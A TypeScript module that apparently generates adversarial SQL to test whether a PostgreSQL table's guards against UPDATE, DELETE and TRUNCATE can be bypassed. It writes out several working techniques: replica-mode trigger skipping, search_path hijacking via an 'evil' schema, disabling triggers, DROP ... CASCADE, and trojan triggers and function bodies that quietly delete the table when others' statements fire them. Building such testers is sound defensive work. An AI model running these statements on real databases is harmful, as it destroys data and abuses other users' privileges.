import type { Arsenal, ArsenalColumn, ArsenalFunction, ArsenalRelation } from './arsenal.js';
import { below, family } from './arsenal.js';
import type { Choice } from './values.js';
import { ident, literal, valueFor, valueOf, writtenValues } from './values.js';

export type Means =
  /** A statement on the table, or on one that its rows are reached through. */
  | 'direct'
  /** The same in a session with other settings. */
  | 'setting'
  /** The same where the session reads other functions, operators or tables under the names that guards use. */
  | 'shadow'
  /** The same in a session whose session_replication_role is replica. */
  | 'replica'
  | 'function'
  | 'view'
  /** A statement on another table, or an INSERT into the table itself. */
  | 'table'
  /** What the owner of a table, function, schema or type can do. */
  | 'owned'
  /** Code of one's own where the statements of others run it: triggers wherever one may hang them, functions that one may replace. */
  | 'trap';

export type Operation = 'UPDATE' | 'DELETE' | 'TRUNCATE';

export interface Shot {
  /** What the statement asks for; null when that shows in what it does. */
  readonly operation: Operation | null;
  readonly sql: string;
  /** Whether the statement is about every row of the table, in whatever partition or child. */
  readonly reaches?: boolean;
}

export interface Weapon {
  readonly means: Means;
  /** Steps that may fail. */
  readonly soft: readonly string[];
  /** Steps without which the rest is not tried. */
  readonly prepare: readonly string[];
  /** Statements, each tried on its own after the steps. */
  readonly shots: readonly Shot[];
}

export interface Target {
  readonly arsenal: Arsenal;
  readonly table: ArsenalRelation;
}

function settable({ columns }: ArsenalRelation): readonly ArsenalColumn[] {
  return columns.filter(({ isFixed }) => !isFixed);
}

function updates(on: ArsenalRelation): readonly string[] {
  const columns = settable(on);
  const [first] = columns;
  const set = (text: string): string => `UPDATE ${on.sql} SET ${text}`;
  const singly = columns.flatMap((column) => [...new Set([...(['first', 'second'] as const).map((choice) => valueOf(column, choice)), 'NULL', ident(column.name)])].map((value) => set(`${ident(column.name)} = ${value}`)));
  const defaults = on.columns.map(({ name }) => set(`${ident(name)} = DEFAULT`));
  if (first === undefined) return defaults;
  const itself = `${ident(first.name)} = m.${ident(first.name)}`;
  const key = on.columns.find(({ name }) => name === 'id');
  return [
    ...singly,
    ...defaults,
    `UPDATE ONLY ${on.sql} SET ${ident(first.name)} = ${ident(first.name)}`,
    set(columns.map(({ name }) => `${ident(name)} = ${ident(name)}`).join(', ')),
    `MERGE INTO ${on.sql} AS m USING (SELECT 1 AS one) AS s ON true WHEN MATCHED THEN UPDATE SET ${itself}`,
    ...(key === undefined ? [] : columns.slice(0, 4).map(({ name }) => `INSERT INTO ${on.sql} SELECT * FROM ${on.sql} ON CONFLICT (${ident(key.name)}) DO UPDATE SET ${ident(name)} = EXCLUDED.${ident(name)}`)),
  ];
}

function plain(on: ArsenalRelation): readonly Shot[] {
  const of = (operation: Operation, statements: readonly string[]): readonly Shot[] => statements.map((sql) => ({ operation, sql }));
  return [
    ...of('UPDATE', updates(on)),
    ...of('DELETE', [
      `DELETE FROM ${on.sql}`,
      `DELETE FROM ONLY ${on.sql}`,
      `MERGE INTO ${on.sql} AS m USING (SELECT 1 AS one) AS s ON true WHEN MATCHED THEN DELETE`,
    ]),
    ...of('TRUNCATE', [`TRUNCATE ${on.sql}`, `TRUNCATE ONLY ${on.sql}`, `TRUNCATE ${on.sql} RESTART IDENTITY CASCADE`]),
  ];
}

/** The fewest statements that differ for a trigger. */
function core(on: ArsenalRelation): readonly Shot[] {
  const columns = settable(on);
  const singly = columns.flatMap((column) => [...new Set([valueOf(column, 'second'), ...(column.notNull ? [valueOf(column, 'first')] : ['NULL'])])].map((value) => `UPDATE ${on.sql} SET ${ident(column.name)} = ${value}`));
  return [
    ...singly.map((sql): Shot => ({ operation: 'UPDATE', sql })),
    { operation: 'DELETE', sql: `DELETE FROM ${on.sql}` },
    { operation: 'TRUNCATE', sql: `TRUNCATE ${on.sql} CASCADE` },
  ];
}

/** Statements that are about something else than the table. */
function loose(means: Means, statements: readonly string[]): readonly Weapon[] {
  return statements.length === 0 ? [] : [{ means, soft: [], prepare: [], shots: statements.map((sql) => ({ operation: null, sql })) }];
}

function shotsAt(arsenal: Arsenal, table: ArsenalRelation, kind: (on: ArsenalRelation) => readonly Shot[]): readonly Shot[] {
  return family(arsenal, table).flatMap((on) => kind(on).map((shot) => ({ ...shot, reaches: below(arsenal, on).includes(table) && !shot.sql.includes(' ONLY ') })));
}

export function direct({ arsenal, table }: Target): readonly Weapon[] {
  return [{ means: 'direct', soft: [], prepare: [], shots: shotsAt(arsenal, table, plain) }];
}

/** What an owner does first: gives itself the privilege back. */
export function directAfterGrant(target: Target): readonly Weapon[] {
  const relatives = family(target.arsenal, target.table);
  return withSteps('direct', target, [], relatives.map(({ sql }) => `GRANT UPDATE, DELETE, TRUNCATE ON ${sql} TO CURRENT_USER`));
}

function withSteps(means: Means, { arsenal, table }: Target, prepare: readonly string[], soft: readonly string[] = []): readonly Weapon[] {
  return [{ means, soft, prepare, shots: shotsAt(arsenal, table, core) }];
}

/** What is written in the guards of the table, and in the functions that they name. */
function textsOf({ arsenal, table }: Target): readonly string[] {
  const texts = family(arsenal, table).flatMap((one) => one.texts);
  for (const text of texts) for (const { name, source } of arsenal.functions) if (!texts.includes(source) && new RegExp(`\\b${name}\\s*\\(`, 'u').test(text)) texts.push(source);
  return texts;
}

/** Sessions whose settings are those that some function asks for, with the values written beside them. */
function sessions(target: Target): readonly (readonly string[])[] {
  const texts = textsOf(target);
  const names = [...new Set(texts.flatMap((text) => [...text.matchAll(/current_setting\(\s*'([^']+)'/giu)].map(([, name = '']) => name)))].filter((name) => name.includes('.'));
  const values = [...new Set(['on', 'off', 'true', '1', '', ...writtenValues(texts.filter((text) => /current_setting/iu.test(text)))])];
  const alone = names.flatMap((name) => values.map((value) => [`SELECT set_config(${literal(name)}, ${literal(value)}, false)`]));
  const together = names.length < 2 ? [] : values.map((value) => names.map((name) => `SELECT set_config(${literal(name)}, ${literal(value)}, false)`));
  return [...alone, ...together, ...(texts.some((text) => /\bassert\b/iu.test(text)) ? [['SET plpgsql.check_asserts = off']] : [])];
}

export function settings(target: Target): readonly Weapon[] {
  return sessions(target).flatMap((steps) => withSteps('setting', target, steps));
}

export function replica(target: Target): readonly Weapon[] {
  return withSteps('replica', target, ['SET session_replication_role = replica']);
}

/** Arguments worth trying for one parameter. */
function argumentsFor(type: string, { arsenal, table }: Target): readonly string[] {
  const base = [...new Set([valueFor(type, 'first'), valueFor(type, 'second'), `NULL::${type}`])];
  if (!/^(?:text|character varying|name)$/u.test(type)) return base;
  const names = [table.name, table.sql, table.schema, ...table.columns.slice(0, 3).map(({ name }) => name)];
  const statements = [`DELETE FROM ${table.sql}`, `TRUNCATE ${table.sql}`, `UPDATE ${table.sql} SET ${core(table)[0]?.sql.split(' SET ')[1] ?? ''}`];
  const written = writtenValues(arsenal.functions.map(({ source }) => source)).slice(0, 4);
  return [...base, ...[...names, ...written, ...statements].map((text) => `${literal(text)}::${type}`)];
}

/** Few lists of arguments where there are many functions. */
function argumentLists(types: readonly string[], target: Target): readonly (readonly string[])[] {
  const choices = types.map((type) => argumentsFor(type, target));
  const all = choices.reduce<readonly (readonly string[])[]>((lists, one) => (lists.length * one.length > (target.arsenal.functions.length > 12 ? 6 : 60) ? lists.map((list) => [...list, one[0] ?? 'NULL']) : lists.flatMap((list) => one.map((value) => [...list, value]))), [[]]);
  const same = [0, 1, 2].map((nr) => choices.map((one) => one[nr] ?? 'NULL'));
  return [...new Map([...all, ...same].map((list) => [list.join(), list])).values()];
}

function calls(one: ArsenalFunction, target: Target): readonly string[] {
  const verb = one.prokind === 'p' ? 'CALL' : 'SELECT * FROM';
  const full = argumentLists(one.argumentTypes, target);
  const short = one.defaults === 0 ? [] : argumentLists(one.argumentTypes.slice(0, one.argumentTypes.length - one.defaults), target);
  return [...full, ...short].map((list) => `${verb} ${one.sql}(${list.join(', ')})`);
}

export function functions(target: Target): readonly Weapon[] {
  const callable = target.arsenal.functions.filter(({ result }) => result !== 'trigger' && result !== 'event_trigger');
  return loose('function', callable.flatMap((one) => calls(one, target)));
}

function insertSql(on: ArsenalRelation, choice: Choice): string {
  const columns = settable(on);
  if (columns.length === 0) return `INSERT INTO ${on.sql} DEFAULT VALUES`;
  return `INSERT INTO ${on.sql} (${columns.map(({ name }) => ident(name)).join(', ')}) VALUES (${columns.map((column) => valueOf(column, choice)).join(', ')})`;
}

function statementsOn(on: ArsenalRelation): readonly string[] {
  return [insertSql(on, 'first'), insertSql(on, 'second'), `INSERT INTO ${on.sql} DEFAULT VALUES`, ...core(on).map(({ sql }) => sql)];
}

export function views({ arsenal }: Target): readonly Weapon[] {
  const found = arsenal.relations.filter(({ relkind }) => relkind === 'v');
  return loose('view', found.flatMap((view) => [...statementsOn(view).filter((sql) => !sql.startsWith('TRUNCATE')), `SELECT * FROM ${view.sql}`]));
}

export function otherTables({ arsenal, table }: Target): readonly Weapon[] {
  const relatives = family(arsenal, table);
  const others = arsenal.relations.filter((one) => !relatives.includes(one) && (one.relkind === 'r' || one.relkind === 'p'));
  const own = [insertSql(table, 'first'), insertSql(table, 'second'), `INSERT INTO ${table.sql} DEFAULT VALUES`, `SELECT * FROM ${table.sql}`];
  const reads = others.map(({ sql }) => `SELECT * FROM ${sql}`);
  return loose('table', [...others.flatMap(statementsOn), ...own, ...reads]);
}

const keywords = new Set('if and or not in values exists select from where raise return returns then else elsif when case coalesce nullif greatest least using set call perform into update delete insert table on as is row array cast grouping overlay position substring trim extract filter over'.split(' '));

/** Functions, operators and tables that guards name without a schema, made again where the session looks first. */
function disguises(target: Target): readonly (readonly string[])[] {
  const { arsenal, table } = target;
  const texts = textsOf(target);
  const called = [...new Set(texts.flatMap((text) => [...text.toLowerCase().matchAll(/(?<![.\w"])([a-z_][a-z0-9_]*)\s*\(/gu)].map(([, name = '']) => name)))].filter((name) => !keywords.has(name));
  const own = new Map(arsenal.functions.map((one) => [one.name, one]));
  const start = ['CREATE SCHEMA IF NOT EXISTS evil', `SET search_path = evil, pg_catalog, ${[...new Set(['public', ...arsenal.schemas])].join(', ')}`];
  const result = (type: string, choice: Choice | 'null'): string => (type === 'void' ? '' : choice === 'null' ? 'NULL' : valueFor(type, choice));
  const byFunctions = (['first', 'second', 'null'] as const).map((choice) => [
    ...start,
    ...called.flatMap((name): readonly string[] => {
      const known = own.get(name);
      if (known !== undefined && (known.result === 'trigger' || known.prokind === 'p')) return [];
      if (known !== undefined) return [`CREATE FUNCTION evil.${ident(name)}(${known.argumentTypes.join(', ')}) RETURNS ${known.result} LANGUAGE sql AS ${literal(known.result === 'void' ? 'SELECT' : `SELECT ${result(known.result, choice)}`)}`];
      return [
        `DO $d$ DECLARE f record; BEGIN FOR f IN SELECT (SELECT coalesce(string_agg(format_type(a, NULL), ', '), '') FROM unnest(proargtypes) AS u (a)) AS args, format_type(prorettype, NULL) AS res FROM pg_catalog.pg_proc WHERE proname = ${literal(name)} AND pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND NOT proretset LOOP
           BEGIN EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE sql AS %L', ${literal(name)}, f.args, f.res, format('SELECT %s::%s', CASE f.res WHEN 'boolean' THEN '${choice === 'first' ? 'true' : choice === 'second' ? 'false' : 'NULL'}' WHEN 'text' THEN '${choice === 'null' ? 'NULL' : "''on''"}' ELSE 'NULL' END, f.res)); EXCEPTION WHEN OTHERS THEN NULL; END; END LOOP; END $d$`,
      ];
    }),
  ]);
  const types = [...new Set(['text', 'integer', 'bigint', 'name', ...table.columns.map(({ type }) => type)])];
  const byOperators = (['true', 'false'] as const).map((answer) => [
    ...start,
    ...types.flatMap((type, nr) => [
      `CREATE FUNCTION evil.op${String(nr)}(${type}, ${type}) RETURNS boolean LANGUAGE sql AS 'SELECT ${answer}'`,
      ...['=', '<>', '<', '>', '<=', '>='].map((name) => `CREATE OPERATOR evil.${name} (LEFTARG = ${type}, RIGHTARG = ${type}, FUNCTION = evil.op${String(nr)})`),
    ]),
  ]);
  const read = [...new Set(texts.flatMap((text) => [...text.toLowerCase().matchAll(/\b(?:from|join|into|update|only)\s+([a-z_][a-z0-9_]*)(?![.\w(])/gu)].map(([, name = '']) => name)))];
  const tables = arsenal.relations.filter((one) => (one.relkind === 'r' || one.relkind === 'p') && read.includes(one.name) && one !== table);
  const temporary = (rows: 'empty' | Choice): readonly string[] =>
    tables.flatMap((one) => [`CREATE TEMP TABLE ${ident(one.name)} (${one.columns.map(({ name, type }) => `${ident(name)} ${type}`).join(', ')})`, ...(rows === 'empty' ? [] : [insertSql({ ...one, sql: `pg_temp.${ident(one.name)}`, columns: one.columns.map((column) => ({ ...column, isFixed: false })) }, rows)])]);
  const byTables = tables.length === 0 ? [] : (['empty', 'first', 'second'] as const).map(temporary);
  return [...(called.length === 0 ? [] : byFunctions), ...byOperators, ...byTables];
}

export function shadows(target: Target): readonly Weapon[] {
  return disguises(target).flatMap((steps) => withSteps('shadow', target, steps));
}

/** Whoever owns something may replace, drop and disable it. */
export function owned(target: Target): readonly Weapon[] {
  const { arsenal, table } = target;
  const relatives = family(arsenal, table);
  const bodies = arsenal.functions.flatMap((one): readonly string[] => {
    if (one.prokind === 'p') return [`${one.head} LANGUAGE plpgsql AS 'BEGIN END'`];
    if (one.result === 'trigger') return [`${one.head} LANGUAGE plpgsql AS 'BEGIN RETURN coalesce(NEW, OLD); END'`];
    if (one.result === 'void') return [`${one.head} LANGUAGE sql AS 'SELECT'`];
    return [valueFor(one.result, 'first'), valueFor(one.result, 'second')].map((value) => `${one.head} LANGUAGE sql AS ${literal(`SELECT ${value}`)}`);
  });
  const replaced = bodies.flatMap((body) => withSteps('owned', target, [body]));
  const drops = arsenal.functions.flatMap((one) => withSteps('owned', target, [`DROP ROUTINE ${one.sql}(${one.argumentTypes.join(', ')}) CASCADE`]));
  const disabled = withSteps('owned', target, [`ALTER TABLE ${table.sql} DISABLE TRIGGER USER`], relatives.flatMap(({ sql }) => [`ALTER TABLE ${sql} DISABLE TRIGGER ALL`, `GRANT ALL ON ${sql} TO CURRENT_USER`]));
  const dropped = [...relatives.map(({ sql }) => `DROP TABLE ${sql} CASCADE`), ...arsenal.schemas.map((name) => `DROP SCHEMA ${name} CASCADE`), ...arsenal.types.map((name) => `DROP TYPE ${name} CASCADE`)];
  return [...disabled, ...replaced, ...drops, ...loose('owned', dropped)];
}

/** Triggers that do harm as whoever sets them off, on all tables that take them, and harmful bodies for all functions that can be replaced; then calls, and statements on other tables. */
export function traps(target: Target): readonly Weapon[] {
  const { arsenal, table } = target;
  const quietly = (statement: string): string => `BEGIN ${statement}; EXCEPTION WHEN OTHERS THEN NULL; END;`;
  const harm = `${quietly('SET LOCAL session_replication_role = replica')} ${quietly(`DELETE FROM ${table.sql}`)}`;
  const plain: Readonly<Record<string, string>> = { boolean: 'true', integer: '0' };
  const tables = arsenal.relations.filter(({ relkind }) => relkind === 'r' || relkind === 'p');
  const hung = tables.map(({ sql }) => `CREATE TRIGGER trap AFTER INSERT OR UPDATE OR DELETE ON ${sql} FOR EACH STATEMENT EXECUTE FUNCTION pg_temp.trap()`);
  const replaced = arsenal.functions.flatMap(({ head, result, prokind }): readonly string[] => {
    if (prokind === 'p' || result === 'void' || result === 'event_trigger') return [`${head} LANGUAGE plpgsql AS ${literal(`BEGIN ${harm} END`)}`];
    return /^(?:SETOF|TABLE)\b/iu.test(result) ? [] : [`${head} LANGUAGE plpgsql AS ${literal(`BEGIN ${harm} RETURN ${result === 'trigger' ? 'coalesce(NEW, OLD)' : (plain[result] ?? 'NULL')}; END`)}`];
  });
  // Whoever owns a type makes casts to it, with a function of its own.
  const casts = arsenal.types.flatMap((type, nr) => [
    `CREATE FUNCTION pg_temp.cast${String(nr)}(text) RETURNS ${type} LANGUAGE plpgsql AS ${literal(`BEGIN ${harm} RETURN NULL; END`)}`,
    `CREATE CAST (text AS ${type}) WITH FUNCTION pg_temp.cast${String(nr)}(text) AS ASSIGNMENT`,
  ]);
  const soft = [`CREATE FUNCTION pg_temp.trap() RETURNS trigger LANGUAGE plpgsql AS ${literal(`BEGIN ${harm} RETURN NULL; END`)}`, ...hung, ...replaced, ...casts];
  const shots = [...functions(target), ...otherTables(target)].flatMap((weapon) => weapon.shots);
  return [{ means: 'trap', soft, prepare: [], shots }];
}
